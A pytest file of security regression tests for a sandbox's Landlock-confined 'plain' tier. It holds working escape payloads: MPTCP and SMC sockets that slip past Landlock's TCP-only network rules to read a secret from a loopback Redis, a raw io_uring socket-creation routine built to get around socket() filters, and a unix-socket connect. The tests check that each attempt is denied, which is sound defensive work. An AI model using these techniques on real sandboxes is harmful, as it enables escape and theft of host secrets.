"""Attacks on the plain tier's Landlock confinement, second round (the first fifteen routes to the
service's files are in test_attack_plain_landlock.py).

What a plain case may reach of the host beyond its files: Landlock (ABI 4) refuses TCP bind and
connect, so that, without the seccomp deny-list (which refuses socket() itself), the host's
loopback services are out of a case's reach (docs/sandbox.md, "plain"). But Landlock's network
rules apply to a socket whose protocol is IPPROTO_TCP only (security/landlock/net.c: sk_is_tcp),
and a stream socket of another protocol makes a TCP connection all the same: an MPTCP socket
(IPPROTO_MPTCP, on by default: net.mptcp.enabled) falls back to plain TCP with a peer that has no
MPTCP. A plain case without the deny-list read the deployment's case secret out of a Redis on
the host's loopback that way (and could have written to it: the grade ledger, the queues). The
channel filter, installed in every tier, now refuses those sockets (child/channels.py).

A unix socket bound to a path is out of Landlock's reach at every ABI this kernel offers (7): a
plain case without the deny-list connects to any such socket its uid may write to. Kept as a
strict xfail: the limit is documented (docs/limits.md)."""

from __future__ import annotations

import json
import os
import secrets
import shutil
import socket
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from app.jobs.case_secret import KEY as CASE_SECRET_KEY
from app.sandbox.child.landlock import kernel_abi
from tests.sandbox.attacks import code
from tests.sandbox.isolation_support import hostile, observed
from tests.sandbox.tiers import LANDLOCK, LaunchedTier, box_for, launched_tiers
from tests.support.redis_server import RedisServer

pytestmark = [pytest.mark.slow, pytest.mark.serial]

ABI = kernel_abi()[0]
IPPROTO_MPTCP, IPPROTO_SMC, AF_SMC = 262, 256, 43


def plain_tiers() -> list[LaunchedTier]:
    return [t for t in launched_tiers() if t.startswith("plain")]


def _needs_landlock_network() -> None:
    if not LANDLOCK or ABI < 4:
        pytest.skip(f"this kernel's Landlock has no TCP rules (ABI {ABI})")


@pytest.fixture(scope="module")
def host_redis() -> Iterator[tuple[int, str]]:
    """A Redis on the host's loopback holding a secret where the service keeps its case secret."""
    server = RedisServer(appendonly=False).start()
    secret = secrets.token_hex(16)
    server.client().set(CASE_SECRET_KEY, secret)
    try:
        yield server.port, secret
    finally:
        server.close()


def _resp_get(key: str) -> bytes:
    return f"*2\r\n$3\r\nGET\r\n${len(key)}\r\n{key}\r\n".encode()


def _mptcp_reaches(port: int, key: str) -> bytes:
    """What the host itself (no Landlock) gets back over an MPTCP socket: the route is real."""
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP) as s:
            s.settimeout(5)
            s.connect(("127.0.0.1", port))
            s.sendall(_resp_get(key))
            return s.recv(4096)
    except OSError:
        return b""


# Each way: (family, type, protocol) of a stream socket that connects to the host's loopback.
STREAMS = {
    "tcp": (socket.AF_INET, socket.SOCK_STREAM, 0),
    "mptcp": (socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP),
    "mptcp_v4_mapped": (socket.AF_INET6, socket.SOCK_STREAM, IPPROTO_MPTCP),
    "smc_protocol": (socket.AF_INET, socket.SOCK_STREAM, IPPROTO_SMC),
    "af_smc": (AF_SMC, socket.SOCK_STREAM, 0),
}

REDIS_OVER_STREAMS = code("""
    import socket
    def attack(port, key, streams):
        out = {}
        ask = f'*2\\r\\n$3\\r\\nGET\\r\\n${len(key)}\\r\\n{key}\\r\\n'.encode()
        for name, (family, kind, proto) in streams.items():
            try:
                s = socket.socket(family, kind, proto)
                s.settimeout(5)
                s.connect(('::ffff:127.0.0.1' if family == socket.AF_INET6 else '127.0.0.1', port))
                s.sendall(ask)
                out[name] = s.recv(4096).decode(errors='replace')
            except OSError as e:
                out[name] = 'denied:' + type(e).__name__
        return out
    """)


@pytest.mark.parametrize("tier", plain_tiers(), ids=lambda t: t.id)
def test_a_plain_case_reaches_no_loopback_service_over_a_stream_that_is_not_tcp(
        tier: LaunchedTier, host_redis: tuple[int, str]) -> None:
    _needs_landlock_network()
    port, secret = host_redis
    reachable = secret.encode() in _mptcp_reaches(port, CASE_SECRET_KEY)
    run, _ = hostile(box_for(tier, guards=False), REDIS_OVER_STREAMS,
                     [port, CASE_SECRET_KEY, {k: list(v) for k, v in STREAMS.items()}])
    got = observed(run)
    assert isinstance(got, dict), (run.status, run.fault, run.final)
    assert secret not in json.dumps(got), got
    assert all(v.startswith("denied:") for v in got.values()), got
    assert (run.armed or {}).get("landlock") == {"abi": ABI}, run.armed
    if tier.endswith("+seccomp"):
        return  # the deny-list refuses socket() itself
    assert got["tcp"] == "denied:PermissionError"  # Landlock (EACCES)
    if reachable:  # the host's own MPTCP reaches the Redis: the case's socket is refused (EPERM)
        assert got["mptcp"] == got["mptcp_v4_mapped"] == "denied:PermissionError", got


MPTCP_LISTEN = code("""
    import socket
    def attack(proto):
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, proto)
            s.bind(('127.0.0.1', 0))
            s.listen(1)
            return s.getsockname()[1]
        except OSError as e:
            return 'denied:' + type(e).__name__
    """)


@pytest.mark.parametrize("tier", plain_tiers(), ids=lambda t: t.id)
def test_a_plain_case_listens_on_no_port(tier: LaunchedTier) -> None:
    """Landlock refuses TCP bind; an MPTCP listener would be a channel between concurrent cases
    (and a port to pose as a service on)."""
    _needs_landlock_network()
    for proto in (0, IPPROTO_MPTCP):
        run, _ = hostile(box_for(tier, guards=False), MPTCP_LISTEN, [proto])
        assert observed(run) == "denied:PermissionError", (proto, run.status, observed(run))


# The same MPTCP socket made by io_uring (IORING_OP_SOCKET), past any filter on socket(): the
# channel filter refuses io_uring itself. Returns 'denied:<where>...' or what the Redis answered.
IO_URING_SOCKET = r"""
import ctypes, mmap, os, socket, struct
def attack(port, key, proto):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    params = ctypes.create_string_buffer(120)
    fd = libc.syscall(425, 4, params)
    if fd < 0:
        return 'denied:io_uring_setup:' + os.strerror(ctypes.get_errno())
    raw = params.raw
    sq_entries, cq_entries = struct.unpack_from('II', raw, 0)
    sq = struct.unpack_from('7I', raw, 40)  # head tail mask entries flags dropped array
    cq = struct.unpack_from('6I', raw, 80)  # head tail mask entries overflow cqes
    sq_size = sq[6] + sq_entries * 4
    cq_size = cq[5] + cq_entries * 16
    size = max(sq_size, cq_size)
    ring = mmap.mmap(fd, size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0)
    sqes = mmap.mmap(fd, sq_entries * 64, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0x10000000)
    sqe = bytearray(64)
    struct.pack_into('BBHi', sqe, 0, 45, 0, 0, socket.AF_INET)  # IORING_OP_SOCKET, fd = domain
    struct.pack_into('Q', sqe, 8, socket.SOCK_STREAM)  # off = type
    struct.pack_into('I', sqe, 24, proto)  # len = protocol
    struct.pack_into('Q', sqe, 32, 7)  # user_data
    sqes[0:64] = bytes(sqe)
    tail = struct.unpack_from('I', ring, sq[1])[0]
    mask = struct.unpack_from('I', ring, sq[2])[0]
    struct.pack_into('I', ring, sq[6] + 4 * (tail & mask), 0)
    struct.pack_into('I', ring, sq[1], tail + 1)
    if libc.syscall(426, fd, 1, 1, 1, None, 0) < 0:
        return 'denied:io_uring_enter:' + os.strerror(ctypes.get_errno())
    head = struct.unpack_from('I', ring, cq[0])[0]
    cmask = struct.unpack_from('I', ring, cq[2])[0]
    user, res, flags = struct.unpack_from('QiI', ring, cq[5] + 16 * (head & cmask))
    if res < 0:
        return 'denied:IORING_OP_SOCKET:' + os.strerror(-res)
    s = socket.socket(fileno=res)
    s.settimeout(5)
    try:
        s.connect(('127.0.0.1', port))
        s.sendall(f'*2\r\n$3\r\nGET\r\n${len(key)}\r\n{key}\r\n'.encode())
        return s.recv(4096).decode(errors='replace')
    except OSError as e:
        return 'denied:' + type(e).__name__
"""


@pytest.mark.parametrize("tier", plain_tiers(), ids=lambda t: t.id)
def test_a_plain_case_makes_no_socket_through_io_uring(tier: LaunchedTier, host_redis: tuple[int, str]) -> None:
    _needs_landlock_network()
    port, secret = host_redis
    run, _ = hostile(box_for(tier, guards=False), IO_URING_SOCKET, [port, CASE_SECRET_KEY, IPPROTO_MPTCP])
    got = observed(run)
    assert isinstance(got, str) and secret not in got, (run.status, run.fault, got)
    assert got.startswith("denied:io_uring_setup:"), got


# ---------------------------------------------------------------- a known limit


UNIX_CONNECT = code("""
    import socket
    def attack(path):
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.settimeout(5)
            s.connect(path)
            return s.recv(100).decode()
        except OSError as e:
            return 'denied:' + type(e).__name__
    """)


@pytest.mark.xfail(strict=True, reason="Landlock (ABI 7) has no right for connecting to a unix "
                   "socket bound to a path: a plain case without the deny-list reaches any such "
                   "socket its uid may write to (docs/limits.md)")
def test_a_plain_case_without_the_deny_list_reaches_no_unix_socket_of_the_host() -> None:
    tiers = [t for t in plain_tiers() if not t.endswith("+seccomp")]
    if not tiers or not LANDLOCK:
        pytest.skip("no plain tier without the deny-list, or no Landlock")
    place = Path(tempfile.mkdtemp(prefix="plain-unix-"))  # in /tmp: a service's socket directory
    os.chmod(place, 0o755)
    path = str(place / "service.sock")
    word = "host-service-" + secrets.token_hex(8)
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(path)
    os.chmod(path, 0o777)
    server.listen(4)
    server.settimeout(30)

    def serve() -> None:
        try:
            conn, _ = server.accept()
            conn.sendall(word.encode())
            conn.close()
        except OSError:
            pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        run, _ = hostile(box_for(tiers[0], guards=False), UNIX_CONNECT, [path])
    finally:
        server.close()
        thread.join(timeout=40)
        shutil.rmtree(place, ignore_errors=True)
    assert observed(run) == "denied:PermissionError", observed(run)
